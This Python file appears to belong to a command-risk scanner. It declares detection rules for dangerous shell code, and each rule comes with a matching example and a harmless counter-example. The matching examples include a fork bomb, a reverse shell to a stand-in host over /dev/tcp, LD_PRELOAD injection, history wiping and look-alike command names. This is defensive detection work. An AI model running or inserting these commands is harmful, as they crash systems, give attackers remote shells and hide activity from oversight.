"""Rules about shell code itself; those about files, networks, and programs are elsewhere."""

from __future__ import annotations

from app.risk.rules import declare
from assent.contracts import RiskLevel

FORK_BOMB = declare(
    "shell.fork_bomb",
    RiskLevel.CRITICAL,
    "A function starts itself again and again until the machine stands still.",
    ":(){ :|:& };:",
    "f() { ls | wc -l & }; f",
    language="shell",
)
REVERSE_SHELL = declare(
    "shell.reverse_shell",
    RiskLevel.CRITICAL,
    "Gives another machine a shell on this one.",
    "bash -i >& /dev/tcp/x.example/4444 0>&1",
    "bash -c 'ls' > out.txt",
    language="shell",
)
ENVIRONMENT = declare(
    "shell.environment",
    RiskLevel.HIGH,
    "Sets a variable that makes other programs run or load code.",
    "export LD_PRELOAD=/tmp/x.so",
    "export LANG=C",
    language="shell",
    unread=True,
)
SEARCH_PATH = declare(
    "shell.search_path",
    RiskLevel.MEDIUM,
    "Changes where programs are looked for.",
    'export PATH="$HOME/bin:$PATH"',
    "export LANG=C",
    language="shell",
    unread=True,
)
SHADOWS = declare(
    "shell.shadows",
    RiskLevel.MEDIUM,
    "Gives a well-known program's name to something else.",
    "alias ls='frobnicate'",
    "alias ll='ls -la'",
    language="shell",
)
ESCAPED = declare(
    "shell.escaped",
    RiskLevel.HIGH,
    "Writes a command or an argument in escapes, which hides what it says.",
    r"$'\x6c\x73' docs",
    r"echo $'a\tb'",
    language="shell",
)
LOOK_ALIKE = declare(
    "shell.look_alike",
    RiskLevel.HIGH,
    "A command's name has letters of another alphabet, which may look like those of a known command.",
    "r\u043c notes.txt",
    "echo \u043c",
    language="shell",
)
PARTLY_KNOWN = declare(
    "shell.partly_known",
    RiskLevel.MEDIUM,
    "Runs code that is only partly known before it runs.",
    'bash -c "ls $DIR"',
    "bash -c 'ls docs'",
    language="shell",
    unread=True,
)
TRACELESS = declare(
    "shell.traceless",
    RiskLevel.HIGH,
    "Erases or turns off the history of commands.",
    "history -c",
    "history",
    language="shell",
)
